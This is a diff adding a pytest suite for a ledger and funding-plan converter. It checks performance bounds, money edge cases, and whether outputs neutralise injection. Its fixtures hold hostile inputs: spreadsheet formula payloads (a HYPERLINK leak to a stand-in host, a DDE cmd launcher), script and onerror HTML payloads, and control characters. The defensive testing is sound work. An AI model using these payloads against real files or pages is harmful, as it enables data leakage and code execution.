@@ -1,0 +1,227 @@
+"""Hostile tables and careless colleagues: no blow-up, no injection, no lie, objects that travel.
+
+Blow-ups are bounded as a ratio to a linear baseline timed in the same test (the best of a few
+runs of each), never as an absolute time: the machine is shared and its speed varies.
+"""
+from __future__ import annotations
+
+import re
+import time
+import zipfile
+from array import array
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+
+import essconv
+from essconv.cli import main
+
+
+def best_time(fn, repeat: int = 3) -> float:
+    best = float("inf")
+    for _ in range(repeat):
+        start = time.perf_counter()
+        fn()
+        best = min(best, time.perf_counter() - start)
+    return max(best, 1e-6)
+
+
+# ---------------------------------------------------------------------------- blow-ups
+
+def test_pivot_is_near_linear_in_distinct_row_labels():
+    n = 40_000                     # quadratic before: ~350x the group-by at this size
+    rows = [f"bénéficiaire {i}" for i in range(n)]
+    ledger = essconv.Ledger.from_columns(
+        {"r": rows, "c": ["CR", "CDC"] * (n // 2), "m": array("q", range(n))}, amount="m",
+        cents=True)
+    pivot = ledger.pivot("r", "c")
+    group_by = best_time(lambda: ledger.group_by("r", "c").sum())
+    pivoting = best_time(lambda: ledger.pivot("r", "c"), repeat=2)
+    assert pivoting < 40 * group_by + 0.05, (pivoting, group_by)
+    # and right: every cell equals a Decimal twin summed in Python
+    assert pivot.lines == rows and pivot.funders == ["CR", "CDC"]
+    for i in (0, 1, n // 2, n - 1):
+        funder = "CR" if i % 2 == 0 else "CDC"
+        assert pivot.cell(i, funder) == Decimal(i) / 100
+        assert pivot.cell(i, "CDC" if funder == "CR" else "CR") is None
+    assert pivot.total() == sum(Decimal(i) / 100 for i in range(n))
+
+
+def test_pivot_with_groups_orders_lines_under_their_group():
+    ledger = essconv.Ledger.from_columns(
+        {"axe": ["B", "A", "B", "A", None], "ligne": ["x", "y", "y", "x", "z"],
+         "f": ["CDC", "CR", "CR", "CDC", "CR"], "m": [1, 2, 3, 4, 5]}, amount="m")
+    plan = ledger.pivot(("axe", "ligne"), "f")
+    assert plan.axes == ["(missing)", "B", "A"]          # dictionary order: first seen first
+    assert [(plan.axis_of(i), l) for i, l in enumerate(plan.lines)] == [
+        ("(missing)", "z"), ("B", "x"), ("B", "y"), ("A", "x"), ("A", "y")]
+    assert plan.cell(("A", "x"), "CDC") == 4 and plan.cell(("B", "y"), "CR") == 3
+    assert plan.total() == 15
+
+
+@pytest.mark.parametrize("threads", [1, 2])
+def test_group_by_integer_keys_multiples_of_2_pow_44_hash_like_any(threads):
+    n = 40_000                       # quadratic before: 0.7 s against 0.003 s
+    amounts = array("q", [1] * n)
+    plain = essconv.Ledger.from_columns({"k": list(range(n)), "m": amounts}, amount="m", cents=True)
+    strided = essconv.Ledger.from_columns({"k": [i << 44 for i in range(n)], "m": amounts},
+                                          amount="m", cents=True)
+    from essconv.ledger import GroupBy
+    baseline = best_time(lambda: GroupBy(plain, ["k"], threads).sum())
+    hostile = best_time(lambda: GroupBy(strided, ["k"], threads).sum())
+    assert hostile < 10 * baseline + 0.01, (hostile, baseline)
+    sums = GroupBy(strided, ["k"], threads).sum().to_dict()
+    assert len(sums) == n and sums[(n - 1) << 44] == Decimal("0.01")
+    # two keys whose composite strides are large powers of two: still one group per pair
+    pairs = essconv.Ledger.from_columns(
+        {"a": [i << 44 for i in range(n)], "b": [(i % 7) << 40 for i in range(n)], "m": amounts},
+        amount="m", cents=True)
+    both = best_time(lambda: pairs.group_by("a", "b").sum())
+    assert both < 20 * baseline + 0.01, (both, baseline)
+
+
+@pytest.mark.parametrize("text, error", [
+    ("1E+999999999", essconv.MoneyOverflowError), ("-1E+999999999", essconv.MoneyOverflowError),
+    ("1E-999999999", essconv.AmountError)])
+def test_a_decimal_with_a_huge_exponent_is_refused_on_its_exponent(text, error):
+    from essconv.money import to_cents
+    baseline = best_time(lambda: to_cents(Decimal("123456789.12")))
+    def refuse():
+        with pytest.raises(error):
+            to_cents(Decimal(text))
+    assert best_time(refuse) < 50 * baseline + 0.001
+    with pytest.raises(error):
+        essconv.Ledger.from_columns({"f": ["a"], "m": [Decimal(text)]}, amount="m")
+
+
+def test_zero_at_any_exponent_is_zero_and_in_reach_values_still_parse():
+    from essconv.money import to_cents
+    assert to_cents(Decimal("0E+999999999")) == 0 == to_cents(Decimal("-0E-999999999"))
+    assert to_cents(Decimal("1.5E+2")) == 15000 and to_cents(Decimal("12.50")) == 1250
+    with pytest.raises(essconv.MoneyOverflowError):
+        to_cents(Decimal("1E+21"))
+    with pytest.raises(essconv.AmountError):
+        to_cents(Decimal("1E-21"))
+
+
+# ---------------------------------------------------------------------------- money edges
+
+def test_an_open_lower_bound_keeps_a_row_of_int64_min_cents():
+    ledger = essconv.Ledger.from_columns(
+        {"f": ["a", "b", "c"], "m": array("q", [-(2**63), 5, 2**63 - 1])}, amount="m", cents=True)
+    assert ledger.filter(m=(None, 0)).values("f") == ["a"]
+    assert ledger.filter(m=(None, None)).values("f") == ["a", "b", "c"]
+    ints = essconv.Ledger.from_columns({"y": [None, 3, -5], "m": [1, 2, 3]}, amount="m")
+    assert ints.filter(y=(None, 10)).values("y") == [3, -5]    # missing is not in a range
+
+
+# ---------------------------------------------------------------------------- injection
+
+HOSTILE_TSV = (
+    'Axe\tLigne\t=HYPERLINK("http://x.example/?leak")\tCR\tTotal\n'
+    "@SUM(A1)\t+cmd|' /C calc'!A0\t-12,50\t3\t-9,50\n"
+    "\t-2+3+cmd\t=1+1\t4\t5\n"
+    "Total\t\t-12,50\t7\t-4,50\n")
+
+
+@pytest.fixture
+def hostile_plan(tmp_path: Path) -> Path:
+    path = tmp_path / "plan-hostile.tsv"
+    path.write_text(HOSTILE_TSV, encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("to, sep", [("csv", ";"), ("tsv", "\t")])
+def test_convert_neutralizes_formulas_but_keeps_amounts_numbers(hostile_plan, tmp_path, to, sep):
+    import csv
+    out = tmp_path / f"out.{to}"
+    assert main(["convert", str(hostile_plan), "--to", to, "-o", str(out)]) == 0
+    rows = list(csv.reader(out.open(encoding="utf-8"), delimiter=sep))
+    cells = [c for row in rows for c in row]
+    assert '\'=HYPERLINK("http://x.example/?leak")' in cells
+    assert "'@SUM(A1)" in cells and "'+cmd|' /C calc'!A0" in cells and "'-2+3+cmd" in cells
+    assert "'=1+1" in cells                        # text in an amount's place is text
+    assert rows[1][2] == "-12,50" and rows[1][4] == "-9,50" and rows[3][4] == "-4,50"
+    for c in cells:                                # nothing a spreadsheet would run
+        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
+        assert not c.startswith("-") or re.fullmatch(r"-[\d ]+(,\d+)?", c), c
+
+
+def test_convert_without_the_guard_writes_cells_verbatim(hostile_plan, tmp_path):
+    import csv
+    out = tmp_path / "out.csv"
+    assert main(["convert", str(hostile_plan), "--to", "csv", "-o", str(out),
+                 "--no-formula-guard"]) == 0
+    cells = [c for row in csv.reader(out.open(encoding="utf-8"), delimiter=";") for c in row]
+    assert "@SUM(A1)" in cells and "-2+3+cmd" in cells and "=1+1" in cells
+    from essconv.export import plan_delimited
+    plan = essconv.read_plan(hostile_plan)
+    assert plan_delimited(plan, ";", formula_guard=False) == out.read_text(encoding="utf-8")
+
+
+def test_xlsx_export_writes_labels_as_strings_never_formulas(hostile_plan, tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    out = tmp_path / "out.xlsx"
+    assert main(["convert", str(hostile_plan), "--to", "xlsx", "-o", str(out)]) == 0
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
+    wb = openpyxl.load_workbook(out)
+    ws = wb.worksheets[0]
+    assert ws.cell(1, 3).value == '=HYPERLINK("http://x.example/?leak")'
+    assert ws.cell(1, 3).data_type == "s" and ws.cell(2, 1).data_type == "s"
+    assert ws.cell(2, 3).value == Decimal("-12.5") or ws.cell(2, 3).value == -12.5
+    assert ws.cell(2, 3).data_type == "n"           # the amount stays a number
+    findings = wb["Findings"]
+    assert all(c.data_type != "f" for row in findings.iter_rows() for c in row)
+
+
+HOSTILE_TOML = r'''
+[convention]
+title = "Convention <script>alert(1)</script> & co"
+territory = "Bretagne"
+start = 2020-01-01
+end = 2022-12-31
+
+[[parties]]
+code = "ETAT"
+name = "L'Etat <u>evil</u>"
+kind = "state"
+signatory = true
+
+[[bodies]]
+name = "Comité\u0007 des financeurs"
+meetings_per_year = 2
+members = ["les signataires"]
+roles = ["décide\r du plan\u0000; vote"]
+
+[[milestones]]
+date = 2021-06-30
+label = "Bilan\r à mi-parcours\u0000\u0007\u001b[31m\u007f fin"
+'''
+
+
+def test_ics_export_has_no_control_character(tmp_path):
+    from essconv.calendar import to_ics
+    path = tmp_path / "hostile.toml"
+    path.write_text(HOSTILE_TOML, encoding="utf-8")
+    ics = to_ics(essconv.load(path), 2021)
+    body = ics.replace("\r\n", "")                  # the line ends RFC 5545 wants, and only them
+    assert not re.search(r"[\x00-\x08\x0a-\x1f\x7f]", body), repr(body)
+    assert "SUMMARY:Bilan\\n à mi-parcours[31m fin" in body
+    assert "DESCRIPTION:décide\\n du plan\\; vote" in body
+
+
+def test_html_outputs_escape_labels(tmp_path):
+    path = tmp_path / "hostile.toml"
+    path.write_text(HOSTILE_TOML, encoding="utf-8")
+    conv = essconv.load(path)
+    plan = essconv.read_plan(
+        "Ligne\t<img src=x onerror=alert(1)>\tTotal\n<script>x</script>\t1\t1\nTotal\t1\t2\n"
+        .encode())
+    from essconv.dashboard import render
+    for html in (plan._repr_html_(), plan.validate()._repr_html_(), conv._repr_html_(),
+                 render(conv), plan.pivot()._repr_html_()):
+        assert "<script>" not in html and "<img" not in html and "<u>evil" not in html
+    assert "&lt;script&gt;" in plan._repr_html_() and "&lt;img" in plan._repr_html_()
